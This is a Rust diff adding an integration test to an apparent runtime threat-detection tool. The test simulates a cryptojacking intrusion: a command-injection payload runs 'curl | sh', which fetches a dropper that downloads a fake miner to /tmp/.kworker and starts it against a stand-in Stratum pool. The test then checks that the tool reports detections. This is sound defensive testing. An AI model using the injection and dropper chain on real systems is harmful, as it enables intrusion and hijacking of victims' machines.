@@ -275,3 +275,91 @@ fn non_root_and_read_only_containers_are_traced() {
     }
     let _ = docker(&["rmi", "-f", image]);
 }
+
+/// Serves fixed files over HTTP/1.0 on `addr` until `count` requests were answered.
+fn serve_files(
+    listener: TcpListener,
+    files: Vec<(&'static str, Vec<u8>)>,
+    count: usize,
+) -> std::thread::JoinHandle<Vec<String>> {
+    std::thread::spawn(move || {
+        let mut paths = Vec::new();
+        for _ in 0..count {
+            let Ok((mut conn, _)) = listener.accept() else { break };
+            conn.set_read_timeout(Some(Duration::from_secs(10))).ok();
+            let mut buf = [0u8; 2048];
+            let n = conn.read(&mut buf).unwrap_or(0);
+            let req = String::from_utf8_lossy(&buf[..n]).to_string();
+            let path = req.split_whitespace().nth(1).unwrap_or("").to_string();
+            let body = files.iter().find(|(p, _)| *p == path).map(|(_, b)| b.clone());
+            let (status, body) = match body {
+                Some(b) => ("200 OK", b),
+                None => ("404 Not Found", b"no".to_vec()),
+            };
+            let _ = write!(conn, "HTTP/1.0 {status}\r\nContent-Length: {}\r\n\r\n", body.len());
+            let _ = conn.write_all(&body);
+            paths.push(path);
+        }
+        paths
+    })
+}
+
+/// A dropper arriving the way cryptojacking does: command injection runs `curl | sh`, the fetched
+/// script downloads a miner into /tmp, makes it executable and starts it against a Stratum pool.
+#[test]
+fn dropped_miner_through_command_injection() {
+    ensure_base();
+    let gateway = ensure_network();
+    let app = repo().join("integration/docker/apps/pyweb");
+    let image = "runwarden-test/pyweb-dropper:latest";
+    build(image, &app.join("Dockerfile"), &[&app.join("app.py")]);
+    let c = Container::run_with(image, "", &[], &[]);
+    let ip = c.ip();
+    wait_ready(&ip, 8080, "/healthz");
+
+    let listener = TcpListener::bind((gateway.as_str(), 0)).unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let base = format!("http://{gateway}:{port}");
+    // A real ELF that still runs, carrying a miner's configuration strings (as packed miners do).
+    let mut miner = std::fs::read("/bin/true").unwrap();
+    miner.extend_from_slice(b"xmrig 6.21 --donate-level 1 randomx");
+    let dropper = format!(
+        "#!/bin/sh\ncurl -s {base}/kworker -o /tmp/.kworker\nchmod +x /tmp/.kworker\n\
+         /tmp/.kworker --donate-level 1 -o stratum+tcp://pool.example:3333 -u 4Awallet\n"
+    )
+    .into_bytes();
+    let server = serve_files(listener, vec![("/d.sh", dropper), ("/kworker", miner)], 2);
+    let payload = format!("x;curl -s {base}/d.sh | sh");
+    let encoded: String = payload
+        .bytes()
+        .map(|b| {
+            if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
+                (b as char).to_string()
+            } else {
+                format!("%{b:02X}")
+            }
+        })
+        .collect();
+    let _ = get(&ip, 8080, &format!("/lookup?name={encoded}"));
+    let served = server.join().unwrap();
+    assert_eq!(served, vec!["/d.sh", "/kworker"], "the dropper did not fetch both stages");
+    std::thread::sleep(Duration::from_millis(700));
+
+    let findings = c.findings();
+    let find = |category: &str| {
+        findings
+            .iter()
+            .find(|f| f["category"] == category)
+            .unwrap_or_else(|| panic!("no {category:?} finding in:\n{}", c.logs()))
+    };
+    let miner_f = find("Execution: Added Malicious Binary Executed");
+    assert_eq!(miner_f["processes"][0]["binary"]["path"], "/tmp/.kworker");
+    assert_eq!(miner_f["indicator"]["signatures"][0]["yaraRuleSignature"]["yaraRule"], "miner_xmrig_family");
+    assert_eq!(miner_f["processes"][0]["binary"]["sha256"].as_str().map(str::len), Some(64));
+    let stratum = find("Impact: Suspicious crypto mining activity using the Stratum Protocol");
+    assert!(stratum["processes"][0]["args"].to_string().contains("stratum+tcp://pool.example:3333"));
+    find("Execution: Program Run from Temporary Directory");
+    find("Unexpected Child Shell");
+    let _ = c.stop();
+    let _ = docker(&["rmi", "-f", image]);
+}
